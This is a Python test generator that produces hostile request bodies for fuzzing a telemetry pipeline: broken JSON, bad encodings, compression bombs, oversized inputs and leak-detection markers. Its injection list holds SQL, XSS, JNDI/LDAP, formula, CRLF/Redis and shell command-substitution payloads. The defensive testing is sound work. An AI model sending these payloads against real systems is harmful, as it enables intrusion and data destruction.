"""Hostile bodies: what the internet may post to the pipeline, some of it valid.

In: a seed. Out: requests, the same ones for the same seed. Next: hostile_run.py, which sends them

Most begin as a valid event and have one thing wrong, written as raw JSON, so that anything can stand anywhere. What
must never be kept or answered has the request's marker in it: 20 letters and digits, which pass in no field.
"""

import gzip
import json
import math
import re
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from functools import cache
from itertools import islice
from random import Random

from vibetel_client import contract
from vibetel_client.contract import Field, Kind

from tests.client.hostile import hostile_strings

MARKER = re.compile(r"xQ9wZ7kJ4[0-9a-f]{8}vB2", re.IGNORECASE)

BODY_MAX_BYTES = 1_048_576
EVENTS_MAX_COUNT = 500

ACCEPTED = "accepted"

_NOON = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
_JSON = {"Content-Type": "application/json"}


@dataclass(frozen=True)
class HostileRequest:
    """A POST to the pipeline.

    `expected`: the reject code of the whole body; "accepted" where each of its events must be; "" where that depends.
    """

    kind: str
    headers: dict[str, str]
    body: bytes
    marker: str
    expected: str = ""
    method: str = "POST"


_Event = dict[bytes, bytes]  # raw JSON: what stands in the quotes of a key, and a value


class _Maker:
    """What the kinds draw from."""

    def __init__(self, seed: int) -> None:
        self.rng = Random(seed)
        self.strings = (text for _, text in hostile_strings(1 << 60, seed))
        self.marker = ""
        self.cut = 0  # the next place to cut a body at
        self._serial = 0

    def begin(self) -> None:
        """The next request: a marker of its own."""
        self._serial += 1
        self.marker = f"xQ9wZ7kJ4{self._serial:08x}vB2"

    def one_in(self, times: int) -> bool:
        return self.rng.randrange(times) == 0

    def size(self, most: int) -> int:
        """From 1 to `most`, its digits as likely to be few as many."""
        return round(math.pow(most, self.rng.random()))

    def text(self) -> str:
        """A hostile string with the marker somewhere in it."""
        text = next(self.strings)
        place = self.rng.randrange(len(text) + 1)
        return text[:place] + self.marker + text[place:]


_Made = tuple[dict[str, str], bytes, str]  # headers, body, what is expected

_VALUES: dict[str, tuple[int, Callable[[_Maker], bytes]]] = {}
_BODIES: dict[str, tuple[int, Callable[[_Maker], _Made]]] = {}


def bodies(seed: int, count: int) -> Iterator[HostileRequest]:
    """`count` requests of all kinds; the same seed gives the same ones, and a larger count begins with a smaller's."""
    return islice(_endless(seed), count)


def kinds() -> set[str]:
    """Every kind there is."""
    return {*_VALUES, *_BODIES}


def _endless(seed: int) -> Iterator[HostileRequest]:
    maker = _Maker(seed)
    names = [*_VALUES, *_BODIES]
    weights = [weight for weight, _ in (*_VALUES.values(), *_BODIES.values())]
    while True:
        (kind,) = maker.rng.choices(names, weights)
        maker.begin()
        if kind in _BODIES:
            headers, body, expected = _BODIES[kind][1](maker)
        else:
            headers, body, expected = _coded(maker, _envelope_with(maker, _VALUES[kind][1]))
        yield HostileRequest(kind, _decorated(maker, headers), body, maker.marker, expected)


def _value(weight: int) -> Callable[[Callable[[_Maker], bytes]], Callable[[_Maker], bytes]]:
    """Declares a hostile value, as raw JSON."""

    def declare(make: Callable[[_Maker], bytes]) -> Callable[[_Maker], bytes]:
        _VALUES[make.__name__.strip("_")] = weight, make
        return make

    return declare


def _body(weight: int) -> Callable[[Callable[[_Maker], _Made]], Callable[[_Maker], _Made]]:
    """Declares a hostile body."""

    def declare(make: Callable[[_Maker], _Made]) -> Callable[[_Maker], _Made]:
        _BODIES[make.__name__.strip("_")] = weight, make
        return make

    return declare


# -- Valid events -----------------------------------------------------------------------------------------------------

_TWIN = "eventName userId sessionId timestamp toolVersion command errorType".split()
_NEW = "os pythonVersion ci agent interactive lostCount eventId".split()
_NAMES = {
    "command": "repo web plan ask browser group:run".split(),
    "provider": "gemini openai anthropic openrouter".split(),
    "model": "gemini-2.5-pro gpt-4.1 o3-mini openrouter/anthropic/claude-3.7-sonnet:beta llama3.1:70b".split(),
    "errorType": "ProviderError FileError TypeError Error".split(),
    "toolVersion": "0.63.0 0.63.1 0.64.0 0.0.0".split(),
    "agent": "claude-code cursor codex".split(),
    "pythonVersion": "3.9 3.12 3.14".split(),
}


def _uuid(rng: Random) -> str:
    digits = f"{rng.getrandbits(128):032x}"
    return f"{digits[:8]}-{digits[8:12]}-4{digits[13:16]}-a{digits[17:20]}-{digits[20:]}"


def _iso(moment: datetime) -> str:
    return moment.isoformat(timespec="milliseconds").replace("+00:00", "Z")


def _text_of(maker: _Maker, text: str) -> bytes:
    """A JSON string, escaped or not; a lone surrogate that is not is no UTF-8."""
    if maker.one_in(2):
        return json.dumps(text).encode()
    return json.dumps(text, ensure_ascii=False).encode("utf-8", "surrogatepass")


def _valid_value(maker: _Maker, field: Field) -> bytes:
    rng = maker.rng
    match field.kind:
        case Kind.UUID | Kind.USER_ID:
            text = _uuid(rng)
        case Kind.TIMESTAMP:
            text = _iso(_NOON - timedelta(milliseconds=rng.randrange(10**9)))
        case Kind.IDENTIFIER:
            name = field.name.removeprefix("file").removeprefix("thinking")
            text = rng.choice(_NAMES[name[0].lower() + name[1:]])
        case Kind.CHOICE:
            text = rng.choice(field.choices)
        case Kind.COUNT:
            return str(maker.size(field.maximum)).encode()
        case Kind.FLAG:
            return rng.choice((b"true", b"false"))
        case Kind.OPTIONS:
            listed = rng.sample(contract.OPTIONS, rng.randint(0, 4))
            return json.dumps({option.name: option.example for option in listed}).encode()
        case Kind.EVENT_NAME:
            text = contract.COMMAND_EXECUTED
    return json.dumps(text).encode()


def _event(maker: _Maker) -> _Event:
    """A run or the twin of a failed one as the released client sends them, or a run of the bundled client."""
    shape = maker.rng.choice(("run", "twin", "new"))
    event: _Event = {}
    for field in contract.FIELDS:
        if shape == "twin" and field.name not in _TWIN:
            continue
        if field.name in _NEW and shape != "new":
            continue
        if field.required_for or field.name == "options" or maker.one_in(2) or shape == "twin":
            event[field.name.encode()] = _valid_value(maker, field)
    if shape == "twin":
        event[b"eventName"] = b'"command_error"'
        event[b"errorMessage"] = _text_of(maker, f"cannot read /home/alice/{maker.marker}")
    elif shape == "new" and maker.one_in(3):
        event[b"eventName"] = b'"command_error"'
    return event


def _object(pairs: Sequence[tuple[bytes, bytes]]) -> bytes:
    return b"{" + b",".join(b'"' + key + b'":' + value for key, value in pairs) + b"}"


def _envelope(maker: _Maker, events: Sequence[bytes], *, sent_at: bytes | None = None) -> bytes:
    """One event as such or in a list, more in a list; half of them with the sender's clock."""
    if len(events) == 1 and maker.one_in(2):
        return b'{"data":' + events[0] + b"}"
    listed = b'"data":[' + b",".join(events) + b"]"
    if sent_at is None:
        sent_at = json.dumps(_iso(_NOON)).encode() if maker.one_in(2) else None
    return b"{" + (b'"sentAt":' + sent_at + b"," if sent_at else b"") + listed + b"}"


def _valid(maker: _Maker) -> bytes:
    """A small envelope of valid events."""
    count = 1 if maker.rng.random() < 0.8 else maker.rng.randint(2, 5)
    return _envelope(maker, [_object([*_event(maker).items()]) for _ in range(count)])


# -- One thing wrong in an event --------------------------------------------------------------------------------------


def _envelope_with(maker: _Maker, make: Callable[[_Maker], bytes]) -> bytes:
    """Valid events, one to three values of some of them hostile; at times `sentAt`, `data`, or all of it."""
    rng = maker.rng
    place = rng.random()
    if place < 0.02:
        return make(maker)
    if place < 0.04:
        return b'{"data":' + make(maker) + b"}"
    sent_at = make(maker) if place < 0.08 else None
    count = 1 if rng.random() < 0.85 else rng.randint(2, 8)
    events = []
    for number in range(count):
        event = _event(maker)
        if number == 0 or maker.one_in(2):
            for _ in range(rng.randint(1, 3)):
                _spoil(maker, event, make)
        events.append(_object([*event.items()]))
    return _envelope(maker, events, sent_at=sent_at)


def _spoil(maker: _Maker, event: _Event, make: Callable[[_Maker], bytes]) -> None:
    if maker.one_in(5):
        option = maker.rng.choice(contract.OPTIONS).name.encode()
        event[b"options"] = _object([(b"debug", b"true"), (option, make(maker))])
    else:
        event[maker.rng.choice(contract.FIELDS).name.encode()] = make(maker)


@_value(6)
def _wrong_type(maker: _Maker) -> bytes:
    return maker.rng.choice(
        (b"null", b"true", b"false", b"0", b"7", b"-1", b"1.5", b"0.0", b"[]", b"{}", b'""', b'"12"', b'"true"', b"[1]")
    )


@_value(4)
def _no_number(maker: _Maker) -> bytes:
    return maker.rng.choice(
        b"NaN Infinity -Infinity -0 -0.0 1e999 -1e999 1e-999 01 +1 .5 1. 0x10 1_000 1e --1 nan 1,5 1E400 0e0".split()
    )


@_value(4)
def _huge_number(maker: _Maker) -> bytes:
    digits = maker.rng.choice((19, 20, 26, 310, 4300, 4301, 5000))
    sign = maker.rng.choice((b"", b"-"))
    return sign + maker.rng.choice((b"1" + b"0" * (digits - 1), b"9" * digits, b"9223372036854775808"))


@_value(1)
def _numbers_by_the_thousand(maker: _Maker) -> bytes:
    one = maker.rng.choice((b"1e308", b"-1.7976931348623157e308", b"0.1", b"1" * 400, b"9" * 4299, b"1e-5", b"0"))
    return b"[" + b",".join([one] * (1 + maker.size(60_000) // len(one))) + b"]"


@_value(2)
def _deep(maker: _Maker) -> bytes:
    depth = maker.rng.choice((100, 500, 900, 1100, 5000))
    opening, closing = maker.rng.choice(((b"[", b"]"), (b'{"a":', b"}"), (b'[{"":', b"}]")))
    return opening * depth + b"1" + closing * (0 if maker.one_in(4) else depth)


@_value(4)
def _surrogate(maker: _Maker) -> bytes:
    lone = maker.rng.choice(("\ud800", "\udfff", "\udc00\ud800", "\udbff", "\ud83d\ude00"))
    return _text_of(maker, f"{maker.marker}{lone}")


@_value(3)
def _control_character(maker: _Maker) -> bytes:
    raw = maker.rng.choice((b"\0", b"\n", b"\x1b[31m", b"\x7f", b"\t", b"\r\n"))
    escaped = maker.rng.choice((b"\\u0000", b"\\u000a", b"\\n", b"\\u001b[2J", b"\\b", b"\\x00", b"\\u00", b"\\"))
    return b'"' + maker.marker.encode() + (raw if maker.one_in(2) else escaped) + b'"'


@_value(3)
def _no_utf8(maker: _Maker) -> bytes:
    """Invalid, overlong, beyond Unicode, cut, Latin-1, BOM."""
    wrong = maker.rng.choice(
        b"\xff \xfe\xff \xc0\x80 \xc1\xbf \xe0\x80\xaf \xf0\x80\x80\xaf \xf4\x90\x80\x80 \xe2\x82 \xf0\x9f\x98 \xe9"
        b" \x80 \xed\xa0\x80 \xef\xbb\xbf".split()
    )
    return b'"' + maker.marker.encode() + wrong + b'"'


@_value(4)
def _unicode(maker: _Maker) -> bytes:
    # Separators and marks that turn the writing round, are not seen, or fold to ASCII; zalgo; 64 letters of elsewhere.
    strange = maker.rng.choice(
        [
            *"\u2028 \u2029 \u202e \u2066 \ufeff \u0131 \u212a \u00a0 \U000e0041 \uffff \ufdd0 \U0010ffff ١٢٣".split(
                " "
            ),
            *("e" + "\u0301" * 60, "漢" * 64, "\ufb01" * 64, "\U0001f468\u200d" * 16),
        ]
    )
    return _text_of(maker, maker.rng.choice((strange, strange + maker.marker, "repo" + strange)))


@_value(1)
def _long_text(maker: _Maker) -> bytes:
    unit = maker.rng.choice(
        ("a", "a-", "1.", "A1", "/", "é", "a:", "-", "Error", "0-", "漢", "\0", "openai/", ".1", "[1m")
    )
    return _text_of(maker, unit * (maker.size(200_000 if maker.one_in(10) else 20_000) // len(unit)) + maker.marker)


@_value(14)
def _secret(maker: _Maker) -> bytes:
    return _text_of(maker, maker.text())


@_value(4)
def _injection(maker: _Maker) -> bytes:
    inside = json.dumps({"eventName": "command_executed", "token": maker.marker})
    return _text_of(
        maker,
        maker.rng.choice(
            (
                inside,
                json.dumps(inside),
                f"'; DROP TABLE events; -- {maker.marker}",
                f'1 OR 1=1 UNION SELECT "{maker.marker}"',
                f"<script>alert('{maker.marker}')</script>",
                f'"><img src=x onerror={maker.marker}>',
                f"${{jndi:ldap://{maker.marker}.example/a}}",
                f"{{{{7*7}}}}{maker.marker}",
                f"__proto__[{maker.marker}]",
                f"=cmd|' /C calc'!{maker.marker}",
                f"%s%n{maker.marker}%(x)s",
                f"\r\nSet-Cookie: {maker.marker}=1",
                f"\r\n*1\r\n$8\r\nFLUSHALL\r\n{maker.marker}",
                f"$({maker.marker})`id`",
            )
        ),
    )


@_value(6)
def _time(maker: _Maker) -> bytes:
    written = (
        *("0001-01-01T00:00:00.000Z", "0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59.999Z"),
        *("9999-12-31T23:59:59-23:59", "0000-01-01T00:00:00Z", "10000-01-01T00:00:00Z", "1970-01-01T00:00:00Z"),
        *("2026-12-31T23:59:60Z", "2026-11-22T24:00:00Z", "2026-02-29T12:00:00Z", "2026-11-22T12:00:00+24:00"),
        *(
            "2026-11-22T12:00:00+14:00",
            "2026-11-22T12:00:00-00:00",
            "2026-11-22T12:00:00",
            "2026-11-22",
            "20261122T120000Z",
        ),
        *("2026-W47-7T12:00:00Z", "2026-11-22 12:00:00Z", "2026-11-22T12:00:00.123456789Z", "2026-11-22T12:00:00,5Z"),
        *("2026-11-22t12:00:00z", "٢٠٢٦-11-22T12:00:00Z", "1763812800", "now", f"2026-11-22T12:00:00Z{maker.marker}"),
        *("2026-11-22T12:00:00.000Z\n", " 2026-11-22T12:00:00.000Z", "-2026-11-22T12:00:00Z", "2026-11-22T12:00:00.Z"),
    )
    if maker.one_in(4):
        return maker.rng.choice((b"1763812800", b"1763812800000", b"-1", b"0.5", b"9" * 30))
    moment = datetime(1, 1, 2, tzinfo=UTC) + timedelta(seconds=maker.rng.randrange(3652057 * 86_400))
    return json.dumps(maker.rng.choice((*written, moment.isoformat(), _iso(moment)))).encode()


@_value(5)
def _user_id(maker: _Maker) -> bytes:
    known = _uuid(maker.rng)
    return _text_of(
        maker,
        maker.rng.choice(
            (
                *(known, known.upper(), known.replace("-", ""), f"{{{known}}}", f"urn:uuid:{known}", known + "\n"),
                *("00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "anonymous_opt_out"),
                *("anonymous_pending_prompt", "anonymous_opt_out ", "Anonymous_opt_out", "", " ", "\0", "undefined"),
                *(
                    f"{maker.marker}@example.com",
                    f"alice {maker.marker}",
                    "漢字",
                    known[:-1],
                    known + "0",
                    maker.text(),
                ),
            )
        ),
    )


@_value(8)
def _invented_name(maker: _Maker) -> bytes:
    """Looks right in some field, and was never seen: many more than a day takes."""
    rng = maker.rng
    word = "".join(rng.choices("abcdefghijklmnoprstuvw", k=rng.randint(3, 9)))
    return json.dumps(
        rng.choice(
            (
                word,
                f"{word}-{rng.randrange(1000)}",
                f"openai/{word}-{rng.randrange(10)}.{rng.randrange(10)}",
                f"{word.title()}Error",
                f"{rng.randrange(100)}.{rng.randrange(100)}.{rng.randrange(100)}",
                f"{rng.randrange(100)}.{rng.randrange(1000)}",
                f"{word}:{word[:3]}",
                f"{word}{rng.randrange(100)}b-instruct",
            )
        )
    ).encode()


# -- One thing wrong with an event as a whole -------------------------------------------------------------------------


@_body(16)
def _valid_events(maker: _Maker) -> _Made:
    return _coded(maker, _valid(maker), accepted=True)


@_body(1)
def _valid_batch(maker: _Maker) -> _Made:
    count = maker.rng.choice((50, 100, 200)) if maker.rng.random() < 0.75 else maker.rng.choice((499, 500, 501, 600))
    body = _envelope(maker, [_object([*_event(maker).items()]) for _ in range(count)])
    return _coded(maker, body, accepted=True) if count <= EVENTS_MAX_COUNT else _as_json(body, "too_many_events")


@_body(1)
def _poisoned_batch(maker: _Maker) -> _Made:
    """Hundreds of events, many with something wrong."""
    makes = [_VALUES[name][1] for name in "wrong_type secret injection time user_id invented_name".split()]
    events = []
    for _ in range(maker.rng.randint(9, 150)):
        event = _event(maker)
        if maker.one_in(2):
            _spoil(maker, event, maker.rng.choice(makes))
        events.append(
            maker.rng.choice((b"null", b"7", b"[]", b'"x"')) if maker.one_in(20) else _object([*event.items()])
        )
    return _coded(maker, _envelope(maker, events))


@_body(4)
def _duplicate_keys(maker: _Maker) -> _Made:
    pairs = [*_event(maker).items()]
    for _ in range(maker.rng.randint(1, 4)):
        field = maker.rng.choice((*contract.FIELDS, contract.FIELDS[0], contract.FIELDS[1]))
        value = maker.rng.choice((_valid_value(maker, field), _secret(maker), b"null", b"{}"))
        pairs.insert(maker.rng.randrange(len(pairs) + 1), (field.name.encode(), value))
    body = _envelope(maker, [_object(pairs)])
    if maker.one_in(5):
        body = b'{"data":"' + maker.marker.encode() + b'",' + body[1:]
    return _coded(maker, body)


@_body(5)
def _unknown_fields(maker: _Maker) -> _Made:
    """One to thousands, with names of all sorts; in the event, its options, or the envelope."""
    rng = maker.rng
    count = maker.size(3000 if maker.one_in(20) else 40)
    place = rng.choice(("event", "options", "envelope"))
    strange = (
        "__proto__",
        "constructor",
        "",
        " ",
        "\0",
        "data",
        "userid",
        "user_id",
        "eventName ",
        "prompt",
        "…",
        "a" * 999,
    )
    pairs = []
    for number in range(count):
        name = rng.choice((f"x{number}", maker.text(), rng.choice(strange), f"note-{rng.randrange(1000)}"))
        pairs.append((_text_of(maker, name)[1:-1], _secret(maker)))
    event = _event(maker)
    if place == "options":
        event[b"options"] = _object([*pairs, (b"debug", b"true")])
        return _coded(maker, _envelope(maker, [_object([*event.items()])]))
    if place == "envelope":
        return _coded(maker, _object([*pairs, (b"data", _object([*event.items()]))]))
    return _coded(maker, _envelope(maker, [_object([*pairs, *event.items()])]))


@_body(4)
def _odd_options(maker: _Maker) -> _Made:
    """Not flat, not an object, free text in each."""
    event = _event(maker)
    event[b"options"] = maker.rng.choice(
        (
            _object([(option.name.encode(), _secret(maker)) for option in contract.OPTIONS]),
            _object([(b"saveTo", b'{"path":' + _secret(maker) + b"}"), (b"debug", b"[true]")]),
            b'{"options":{"options":{"debug":' + _secret(maker) + b"}}}",
            b"[" + _secret(maker) + b"]",
            _secret(maker),
            b'{"maxTokens":1e3,"timeout":-1,"withDocCount":' + b"9" * 40 + b',"html":1,"reasoningEffort":"HIGH"}',
            b'{"maxTokens":true,"timeout":false,"debug":0,"quiet":null,"headless":"false"}',
        )
    )
    return _coded(maker, _envelope(maker, [_object([*event.items()])]))


@_body(3)
def _missing_field(maker: _Maker) -> _Made:
    event = _event(maker)
    for name in maker.rng.sample(sorted(event), maker.rng.randint(1, len(event))):
        del event[name]
    return _coded(maker, _envelope(maker, [_object([*event.items()])]))


@_body(4)
def _no_envelope(maker: _Maker) -> _Made:
    rng = maker.rng
    event = _object([*_event(maker).items()])
    return _as_json(
        rng.choice(
            (
                *(
                    b"null",
                    b"true",
                    b"0",
                    b'"data"',
                    b"[]",
                    b"{}",
                    b"[[[]]]",
                    event,
                    b"[" + event + b"]",
                    _secret(maker),
                ),
                *(
                    b'{"data":%s}' % value
                    for value in (b"null", b"false", b"0", b'""', b"{}", b"[]", b"true", b"1", b"[[]]")
                ),
                *(
                    b'{"data":[null]}',
                    b'{"data":[{}]}',
                    b'{"Data":' + event + b"}",
                    b'{"data":' + _secret(maker) + b"}",
                ),
                *(b'{"data":{"data":' + event + b"}}", b'{"data":[[' + event + b"]]}", b'{"events":[' + event + b"]}"),
            )
        )
    )


# -- Bodies that are no JSON ------------------------------------------------------------------------------------------


@_body(6)
def _cut(maker: _Maker) -> _Made:
    """Truncated JSON, at every place in turn."""
    whole = _valid(maker)
    maker.cut = (maker.cut + 1) % len(whole)
    return _as_json(whole[: maker.cut], "bad_json")


@_body(3)
def _more_behind(maker: _Maker) -> _Made:
    behind = maker.rng.choice((b"}", b"x", b"\0", b",", b"null", _valid(maker), b"//" + maker.marker.encode(), b"\n{}"))
    return _as_json(_valid(maker) + behind, "bad_json")


@_body(2)
def _next_to_nothing(maker: _Maker) -> _Made:
    return _as_json(
        maker.rng.choice((b"", b" ", b"\n", b" \r\n\t" * 300, b"\0", b"\xef\xbb\xbf", b",", b'"')), "bad_json"
    )


@_body(3)
def _other_charset(maker: _Maker) -> _Made:
    text = _valid(maker).decode("utf-8", "replace")
    charset = maker.rng.choice(("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be", "utf-8-sig", "utf-7"))
    body = b"+" + text.encode(charset) if charset == "utf-7" else text.encode(charset)
    return {"Content-Type": f"application/json; charset={charset}"}, body, "bad_json"


@_body(3)
def _almost_json(maker: _Maker) -> _Made:
    valid = _valid(maker)
    return _as_json(
        maker.rng.choice(
            (
                valid.replace(b'"', b"'"),
                valid[:-1] + b",}",
                b"/* */" + valid,
                valid.replace(b":", b"="),
                b"data=" + valid,
                valid.replace(b'"data"', b"data"),
                valid.replace(b",", b";"),
                b"\x1e" + valid,
                b")]}'\n" + valid,
                b"\x80\x04\x95" + maker.rng.randbytes(maker.size(4000)),
                b"\x81\xa4data" + maker.rng.randbytes(99),
                maker.rng.randbytes(maker.size(4000)),
            )
        )
    )


@_body(14)
def _mutation(maker: _Maker) -> _Made:
    """A valid body with bits flipped, bytes cut, doubled or put in, or the rest of another behind its beginning."""
    rng = maker.rng
    body = bytearray(_valid(maker))
    for _ in range(maker.size(12)):
        place = rng.randrange(len(body) or 1)
        change = rng.choice(("flip", "flip", "cut", "double", "put", "token", "splice"))
        if change == "flip" and body:
            body[place] ^= 1 << rng.randrange(8)
        elif change == "cut":
            del body[place : place + maker.size(30)]
        elif change == "double":
            body[place:place] = body[place : place + maker.size(200)]
        elif change == "put":
            body[place:place] = rng.randbytes(maker.size(8))
        elif change == "token":
            body[place:place] = rng.choice(
                (b'"', b"{", b"}", b"[", b"]", b",", b":", b"\\u", b"null", b"1e9", b"\\", b"-")
            )
        else:
            other = _valid(maker)
            body[place:] = other[rng.randrange(len(other)) :]
    return _coded(maker, bytes(body))


# -- Content types and codings ----------------------------------------------------------------------------------------


@_body(4)
def _other_type(maker: _Maker) -> _Made:
    marker = maker.marker.encode()
    event = _valid(maker)
    form = "multipart/form-data; boundary=b"
    part = (
        b'--b\r\nContent-Disposition: form-data; name="data"; filename="'
        + marker
        + b'"\r\n\r\n'
        + event
        + b"\r\n--b--\r\n"
    )
    content_type, body = maker.rng.choice(
        (
            ("application/x-www-form-urlencoded", b"data=" + event),
            ("application/x-www-form-urlencoded", b"&".join([b"a=1"] * maker.size(3000))),
            (form, part),
            (form, b"--b\r\n" * maker.size(300)),
            ("multipart/form-data", part),
            ("text/plain", event),
            ("text/plain;charset=UTF-8", event),
            ("text/json", event),
            ("application/jsonp", event),
            ("application/x-ndjson", event + b"\n" + event),
            ("application/octet-stream", event),
            ("application/msgpack", event),
            (f"text/{maker.marker}", event),
        )
    )
    return {"Content-Type": content_type}, body, "unsupported_media_type"


@_body(2)
def _odd_type(maker: _Maker) -> _Made:
    """Names JSON in an odd way, or nothing at all."""
    content_type = maker.rng.choice(
        (
            *(
                "APPLICATION/JSON",
                "application/json;",
                "application/json; charset=latin-1",
                "application/json;charset=?",
            ),
            *("application/json, text/plain", "*/*", "application/*", "application/vnd.api+json", "json", "/", ";", ""),
            *(
                f'application/json; q="{maker.marker}',
                "application/json; boundary=é",
                "application/json\t; a",
                "a" * 3000,
            ),
        )
    )
    headers = {} if maker.one_in(4) else {"Content-Type": content_type}
    return headers, _valid(maker), ""


@_body(2)
def _no_length(maker: _Maker) -> _Made:
    return _JSON | {"Transfer-Encoding": "chunked"}, _valid(maker), "length_required"


@_body(3)
def _other_coding(maker: _Maker) -> _Made:
    coding = maker.rng.choice(
        (
            *("br", "zstd", "x-gzip", "compress", "gzip, gzip", "gzip,deflate", "identity, gzip", "*", "", "gzip;q=1"),
            *("utf-8", "chunked", "aws-chunked", "é", maker.marker),
        )
    )
    return _JSON | {"Content-Encoding": coding}, gzip.compress(_valid(maker), 1, mtime=0), "unsupported_media_type"


@_body(4)
def _damaged_stream(maker: _Maker) -> _Made:
    """A coding that the body does not have, or not whole, or not alone."""
    rng = maker.rng
    valid = _valid(maker)
    coding = rng.choice(("gzip", "deflate"))
    whole = _compressed(coding, valid)
    raw = zlib.compressobj(wbits=-15)
    body = rng.choice(
        (
            valid,
            b"",
            whole[: rng.randrange(len(whole))],
            whole + rng.choice((b"\0", whole, b"\n", maker.marker.encode())),
            whole[:-1] + bytes([whole[-1] ^ 1]),
            _compressed("deflate" if coding == "gzip" else "gzip", valid),
            raw.compress(valid) + raw.flush(),
            rng.randbytes(maker.size(2000)),
            b"\x1f\x8b\x08\x1e" + b"\0" * 6 + maker.marker.encode() * maker.size(300),
            # Of a preset dictionary (RFC 1950, section 2.2), which nobody has.
            b"\x78\xbb" + rng.randbytes(99),
        )
    )
    return _JSON | {"Content-Encoding": coding}, body, "bad_json" if not body else "bad_encoding"


@_body(2)
def _coded_twice(maker: _Maker) -> _Made:
    coding, inner = maker.rng.choice(
        (("gzip", "gzip"), ("gzip", "deflate"), ("deflate", "gzip"), ("deflate", "deflate"))
    )
    return _JSON | {"Content-Encoding": coding}, _compressed(coding, _compressed(inner, _valid(maker))), "bad_json"


@_body(1)
def _bomb(maker: _Maker) -> _Made:
    coding = maker.rng.choice(("gzip", "deflate"))
    filling = maker.rng.choice((b"\0", b" ", b"[", b'{"a":', b"a", b'{"data":['))
    size = maker.rng.choice((BODY_MAX_BYTES + 1, 10_000_000, 100_000_000))
    return _JSON | {"Content-Encoding": coding}, _bomb_of(coding, filling, size), "too_large"


@cache
def _bomb_of(coding: str, filling: bytes, size: int) -> bytes:
    return _compressed(coding, filling * -(-size // len(filling)))


# -- Sizes ------------------------------------------------------------------------------------------------------------


@_body(1)
def _large(maker: _Maker) -> _Made:
    """A few bytes below the limit, at it, and above it, of what takes longest to read."""
    rng = maker.rng
    size = BODY_MAX_BYTES + (rng.choice((-1, 0, 0, 1, 5000, 3_000_000)) if maker.one_in(2) else -rng.randrange(900_000))
    filling = rng.choice(
        (
            *(b" ", b"[", b"0,", b"{},", b"[],", b'"",', b"1e308,", b"0.1,", b'{"a":1},', b"null,", b'{"":{}},'),
            *(b'"\\u0000",', b'"\xf0\x9f\x98\x80",', b"1" * 30 + b",", b"1" * 4000 + b","),
            b'["' + maker.marker.encode() + b'"],',
        )
    )
    opening, ending = rng.choice(((b'{"data":[', b"0]}"), (b'{"x":[', b'0],"data":{}}'), (b"[", b"0]")))
    room = size - len(opening) - len(ending)
    body = opening + (filling * (room // len(filling))).ljust(room) + ending
    headers = dict(_JSON)
    if len(body) <= BODY_MAX_BYTES and maker.one_in(3):
        return headers | {"Content-Encoding": "gzip"}, gzip.compress(body, 1, mtime=0), ""
    return headers, body, "too_large" if len(body) > BODY_MAX_BYTES else ""


@_body(1)
def _large_event(maker: _Maker) -> _Made:
    """One valid event, filled up with what is dropped: unknown fields, one long text, spaces."""
    rng = maker.rng
    pairs = [*_event(maker).items()]
    size = maker.size(BODY_MAX_BYTES - 3000)
    match rng.choice(("fields", "text", "escapes", "spaces", "options")):
        case "fields":
            pairs += [(b"f%x" % number, b"0") for number in range(size // 12)]
        case "options":
            pairs.append((b"options", _object([(b"o%x" % number, b"0") for number in range(size // 12)])))
        case "text":
            pairs.append((b"errorMessage", b'"' + maker.marker.encode() * (size // 20) + b'"'))
        case "escapes":
            pairs.append((b"note", b'"' + b"\\u00e9\\n\\ud83d\\ude00" * (size // 20) + b'"'))
        case _:
            pairs.append((b"note", b" " * size + b"1"))
    body = _envelope(maker, [_object(pairs)])
    return _coded(maker, body, accepted=body.count(b",") < 20_000)  # nobody promised to take more fields than that


@_body(1)
def _dropped_by_the_thousand(maker: _Maker) -> _Made:
    """Many events with many unknown fields each, whose names look like names: each is counted."""
    rng = maker.rng
    events = []
    for number in range(maker.size(300)):
        word = "".join(rng.choices("abcdefghijkl", k=4))
        event = _event(maker) | {b"%s-%d" % (word.encode(), number * 20 + field): b"1" for field in range(20)}
        events.append(_object([*event.items()]))
    return _coded(maker, _envelope(maker, events), accepted=True)


# -- The way out ------------------------------------------------------------------------------------------------------


def _as_json(body: bytes, expected: str = "") -> _Made:
    return dict(_JSON), body, expected


def _coded(maker: _Maker, body: bytes, *, accepted: bool = False) -> _Made:
    """The body plain or compressed, at times as something that it is not."""
    expected = ACCEPTED if accepted else ""
    draw = maker.rng.random()
    if draw < 0.75:
        return dict(_JSON), body, expected
    coding = maker.rng.choice(("gzip", "deflate"))
    compressed = _compressed(coding, body)
    if draw < 0.97:
        named = maker.rng.choice((coding, coding.upper(), coding.title()))
        return _JSON | {"Content-Encoding": named}, compressed, expected
    if draw < 0.98:
        return _JSON | {"Content-Encoding": "br"}, compressed, "unsupported_media_type"
    if draw < 0.99:
        return dict(_JSON), compressed, "bad_json"
    return _JSON | {"Content-Encoding": coding}, body, "bad_encoding" if body else "bad_json"


def _compressed(coding: str, body: bytes) -> bytes:
    return gzip.compress(body, 1, mtime=0) if coding == "gzip" else zlib.compress(body, 1)


def _decorated(maker: _Maker, headers: dict[str, str]) -> dict[str, str]:
    """With headers that should make no difference."""
    if not maker.one_in(4):
        return headers
    name, value = maker.rng.choice(
        (
            ("User-Agent", f"node {maker.marker}"),
            ("Accept", "text/html"),
            ("Accept", maker.marker),
            ("X-Forwarded-For", f"10.1.2.3, {maker.marker}"),
            ("Authorization", f"Bearer {maker.marker}"),
            ("Cookie", f"sessionid={maker.marker}"),
            ("X-HTTP-Method-Override", "DELETE"),
            ("Expect", "200-ok"),
            ("Accept-Encoding", "gzip, br"),
            ("Referer", f"https://example.com/{maker.marker}"),
            ("Origin", "null"),
            ("X-Long", "é" * 4000),
        )
    )
    return headers | {name: value}
